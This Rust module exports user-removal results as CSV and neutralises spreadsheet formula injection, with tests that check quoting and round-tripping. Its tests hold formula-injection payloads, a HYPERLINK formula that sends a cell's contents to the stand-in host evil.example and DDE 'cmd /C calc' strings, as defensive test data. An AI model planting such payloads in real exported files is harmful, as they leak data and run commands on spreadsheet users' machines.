//! The results as a CSV file (RFC 4180), safe to open in a spreadsheet.

use std::borrow::Cow;

use super::filter::OutcomeClass;
use super::row::RowOutcome;
use super::time::push_iso8601_utc;

/// The header line of the export.
pub const COLUMNS: [&str; 6] = ["row", "user", "outcome", "http_status", "message", "time"];

/// Every row as CSV: `row,user,outcome,http_status,message,time`, CRLF line ends, `outcome` as the
/// Results step words it ([`OutcomeClass::label`]: a failure whose outcome is unknown says so), `time` in
/// ISO-8601 UTC. Starts with a UTF-8 byte-order mark so that Excel reads accented names right.
/// Text that a spreadsheet would run as a formula is neutralised (see [`neutralise`]).
pub fn export_csv(rows: &[RowOutcome]) -> String {
    let mut out = String::with_capacity(rows.len() * 96 + 64);
    export_head(&mut out);
    export_rows(&mut out, rows);
    out
}

/// Appends the start of [`export_csv`]'s text: the byte-order mark and the header line.
pub fn export_head(out: &mut String) {
    out.push('\u{feff}');
    out.push_str(&COLUMNS.join(","));
    out.push_str("\r\n");
}

/// Appends the lines of `rows` as [`export_csv`] writes them, so a large export can be written
/// a slice of rows at a time.
pub fn export_rows(out: &mut String, rows: &[RowOutcome]) {
    for r in rows {
        push_number(out, r.row() as u64);
        out.push(',');
        push_cell(out, r.user());
        out.push(',');
        push_cell(out, OutcomeClass::of(r).label());
        out.push(',');
        if let Some(status) = r.http_status() {
            push_number(out, status.into());
        }
        out.push(',');
        push_cell(out, &r.message());
        out.push(',');
        if let Some(ms) = r.at_ms() {
            push_iso8601_utc(out, ms);
        }
        out.push_str("\r\n");
    }
}

/// Appends `n` in decimal.
fn push_number(out: &mut String, mut n: u64) {
    let mut digits = [0u8; 20];
    let mut at = digits.len();
    loop {
        at -= 1;
        digits[at] = b'0' + (n % 10) as u8;
        n /= 10;
        if n == 0 {
            break;
        }
    }
    out.extend(digits[at..].iter().map(|&d| char::from(d)));
}

/// Appends a text cell, [`neutralise`]d (without copying it when there is nothing to neutralise).
/// RFC 4180: a field with a comma, quote, CR or LF is quoted, its quotes doubled; so is one with a
/// space or tab at either end, which readers (this app's among them) trim otherwise.
fn push_cell(out: &mut String, text: &str) {
    let text = neutralise(text);
    let padded = text.starts_with([' ', '\t']) || text.ends_with([' ', '\t']);
    let special = text
        .bytes()
        .any(|b| matches!(b, b',' | b'"' | b'\r' | b'\n'));
    if !padded && !special {
        out.push_str(&text);
        return;
    }
    out.push('"');
    let mut pieces = text.split('"');
    out.push_str(pieces.next().unwrap_or_default());
    for piece in pieces {
        out.push_str("\"\"");
        out.push_str(piece);
    }
    out.push('"');
}

/// Whether a spreadsheet would run `text` as a formula (or hide its start): it starts, after any
/// leading whitespace, with `=`, `+`, `-` or `@`, or starts with a tab or carriage return.
fn runs_as_formula(text: &str) -> bool {
    text.starts_with(['\t', '\r'])
        || matches!(
            text.trim_start().chars().next(),
            Some('=' | '+' | '-' | '@')
        )
}

/// Whether a cell (or a part of one after a `;`) gets a `'` on export: it [`runs_as_formula`], or
/// it already starts with `'`s before such text (so that [`restore`] can tell the two apart).
fn needs_quote(part: &str) -> bool {
    runs_as_formula(part.trim_start_matches('\''))
        && (runs_as_formula(part) || part.starts_with('\''))
}

/// Prefixes `'` to text that [`runs_as_formula`], so spreadsheets show it instead of running it;
/// likewise to each part after a `;`, where a spreadsheet whose list separator is `;` (German,
/// French, Dutch… settings) starts a new cell when it opens the file. Text that already starts
/// with `'` before such text gets one more, so [`restore`] gives back exactly what was written.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if !text.split(';').any(needs_quote) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 2);
    for (i, part) in text.split(';').enumerate() {
        if i > 0 {
            out.push(';');
        }
        if needs_quote(part) {
            out.push('\'');
        }
        out.push_str(part);
    }
    Cow::Owned(out)
}

/// Undoes [`neutralise`]: the text a cell held before it was exported.
pub fn restore(cell: &str) -> String {
    let mut out = String::with_capacity(cell.len());
    for (i, part) in cell.split(';').enumerate() {
        if i > 0 {
            out.push(';');
        }
        match part.strip_prefix('\'') {
            Some(rest) if needs_quote(rest) => out.push_str(rest),
            _ => out.push_str(part),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::results::row::{rows, SkipReason, Skipped};
    use crate::run::{Outcome, UserResult};

    fn result(
        row: usize,
        user: &str,
        outcome: Outcome,
        status: Option<u16>,
        message: &str,
    ) -> UserResult {
        UserResult {
            row,
            user: user.into(),
            outcome,
            http_status: status,
            message: message.into(),
            attempts: 1,
            at_ms: 1_700_000_000_000.0,
        }
    }

    /// Parses the export back with the `csv` crate, as a spreadsheet would read it.
    fn read_back(text: &str) -> Vec<Vec<String>> {
        let body = text.strip_prefix('\u{feff}').expect("starts with a BOM");
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(body.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect()
    }

    #[test]
    fn every_outcome_kind_is_exported_with_its_columns() {
        let all = rows(
            [
                result(2, "u-removed", Outcome::Removed, Some(200), "removed"),
                result(
                    3,
                    "u-missing",
                    Outcome::NotFound,
                    Some(404),
                    "User not found",
                ),
                result(4, "u-scim", Outcome::NotAllowed, Some(405), "SCIM-managed"),
                result(
                    5,
                    "u-enabled",
                    Outcome::Conflict,
                    Some(409),
                    "still enabled",
                ),
                result(
                    6,
                    "u-failed",
                    Outcome::Failed,
                    Some(500),
                    "failed after 5 attempts",
                ),
                result(
                    7,
                    "u-later",
                    Outcome::NotStarted,
                    None,
                    "not started: the run was cancelled",
                ),
            ],
            [
                Skipped {
                    row: 8,
                    value: "u-removed".into(),
                    reason: SkipReason::Duplicate { of_row: 2 },
                },
                Skipped {
                    row: 1,
                    value: "User Login".into(),
                    reason: SkipReason::Header,
                },
                Skipped {
                    row: 9,
                    value: "".into(),
                    reason: SkipReason::Blank,
                },
                Skipped {
                    row: 10,
                    value: "x y".into(),
                    reason: SkipReason::Invalid("contains a space".into()),
                },
                Skipped {
                    row: 11,
                    value: "admin".into(),
                    reason: SkipReason::ExcludedSelf,
                },
                Skipped {
                    row: 12,
                    value: "svc-backup".into(),
                    reason: SkipReason::Protected("svc-*".into()),
                },
            ],
        );
        let table = read_back(&export_csv(&all));
        assert_eq!(table[0], COLUMNS);
        assert_eq!(table.len(), 13, "a header and one line per row");
        assert_eq!(
            table[1],
            ["1", "User Login", "skipped", "", "header row", ""]
        );
        assert_eq!(
            table[2],
            [
                "2",
                "u-removed",
                "removed",
                "200",
                "removed",
                "2023-11-14T22:13:20Z"
            ]
        );
        assert_eq!(table[3][2], "not found");
        assert_eq!(table[4][2], "not allowed");
        assert_eq!(table[5][2], "still enabled or pending deletion");
        assert_eq!(table[6][2..5], ["failed", "500", "failed after 5 attempts"]);
        assert_eq!(table[7][2..4], ["not started", ""]);
        assert_eq!(table[8][4], "duplicate of row 2");
        assert_eq!(table[10][4], "invalid: contains a space");
        assert_eq!(table[11][4], "your own account: never removed");
        assert_eq!(
            table[12][4],
            "protected account (matches svc-*): never removed"
        );
        let rows_out: Vec<&str> = table[1..].iter().map(|r| r[0].as_str()).collect();
        assert_eq!(
            rows_out,
            ["1", "2", "3", "4", "5", "6", "7", "8", "9", "10", "11", "12"]
        );
    }

    #[test]
    fn a_spreadsheet_splitting_at_semicolons_finds_no_formula() {
        let text = "x;=cmd|' /C calc'!A0; and; +1;@SUM(A1);\t-2";
        let all = rows([result(2, text, Outcome::Failed, Some(400), text)], []);
        let export = export_csv(&all);
        let body = export.strip_prefix('\u{feff}').unwrap();
        let mut cells = 0;
        for record in csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .delimiter(b';')
            .from_reader(body.as_bytes())
            .records()
        {
            for cell in record.unwrap().iter() {
                cells += 1;
                assert!(!runs_as_formula(cell), "{cell:?} runs as a formula");
            }
        }
        assert!(cells > 8, "{cells} cells");
        let back = crate::results::import_results(&export).unwrap();
        assert_eq!((back[0].user(), back[0].message()), (text, text.into()));
    }

    #[test]
    fn formula_payloads_are_neutralised() {
        let payloads = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1",
            "-2",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "  =cmd|' /C calc'!A0",
            "\u{a0}@x",
        ];
        for p in payloads {
            assert_eq!(neutralise(p), format!("'{p}"), "{p:?}");
        }
        let after_semicolon = [
            ("x;=cmd|' /C calc'!A0;", "x;'=cmd|' /C calc'!A0;"),
            ("Removed; -1 users left", "Removed;' -1 users left"),
            ("=a;b;@c", "'=a;b;'@c"),
        ];
        for (text, written) in after_semicolon {
            assert_eq!(neutralise(text), written);
            assert_eq!(restore(written), text);
        }
        for quoted in [
            "'-1",
            "HTTP 400: bad value;'-' is not allowed",
            "''=x",
            "' =x",
        ] {
            assert_eq!(restore(&neutralise(quoted)), quoted, "{quoted:?}");
        }
        for harmless in [
            "jdoe@example.com",
            "a=b",
            "",
            " plain",
            "x-1",
            "'quoted",
            "a;b",
            "Doe; John",
        ] {
            assert_eq!(neutralise(harmless), harmless);
            assert_eq!(restore(harmless), harmless);
        }
        for p in payloads {
            assert_eq!(restore(&neutralise(p)), p);
        }
        let all = rows(
            payloads
                .iter()
                .enumerate()
                .map(|(i, p)| result(i + 2, p, Outcome::Failed, None, p)),
            [],
        );
        let table = read_back(&export_csv(&all));
        for (line, p) in table[1..].iter().zip(payloads) {
            assert_eq!(line[1], format!("'{p}"));
            assert_eq!(line[4], format!("'{p}"));
        }
    }

    #[test]
    fn quotes_commas_and_line_breaks_are_quoted_and_read_back_exactly() {
        let message = "Error: \"x\", then\r\nanother line\nand more";
        let all = rows(
            [result(
                2,
                "o'brien,pat",
                Outcome::Failed,
                Some(400),
                message,
            )],
            [],
        );
        let text = export_csv(&all);
        assert!(text.contains("\"o'brien,pat\""), "{text}");
        let table = read_back(&text);
        assert_eq!(table[1][1], "o'brien,pat");
        assert_eq!(table[1][4], message);
        let cell = |text: &str| {
            let mut out = String::new();
            push_cell(&mut out, text);
            out
        };
        assert_eq!(cell("plain"), "plain");
        assert_eq!(cell("in the middle"), "in the middle");
        assert_eq!(cell(" padded\t"), "\" padded\t\"");
        assert_eq!(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(cell("=1+1, \"x\" "), "\"'=1+1, \"\"x\"\" \"");
        assert_eq!(cell("\tindented"), "'\tindented");
    }

    proptest::proptest! {
        /// Any user and message comes back exactly, through the `csv` crate and through this app's
        /// own import, except text that itself starts with `'` and a formula character (see [`restore`]).
        #[test]
        fn any_text_is_read_back_as_written(
            user in "[a-z=+@' \t,\"\r\n\u{e9}\u{3a3}-]{0,12}",
            message in "[a-z=+@' \t,\"\r\n\u{e9}\u{3a3}-]{0,12}",
        ) {
            let lossy = |t: &str| t.starts_with('\'') && neutralise(&t[1..]) != t[1..];
            proptest::prop_assume!(!lossy(&user) && !lossy(&message));
            let all = rows([result(2, &user, Outcome::Failed, Some(500), &message)], []);
            let text = export_csv(&all);
            let table = read_back(&text);
            proptest::prop_assert_eq!(table.len(), 2);
            proptest::prop_assert_eq!(restore(&table[1][1]), user.as_str());
            proptest::prop_assert_eq!(restore(&table[1][4]), message.as_str());
            let back = crate::results::import_results(&text).unwrap();
            proptest::prop_assert_eq!(back[0].user(), user.as_str());
            proptest::prop_assert_eq!(back[0].message(), message);
        }
    }
}
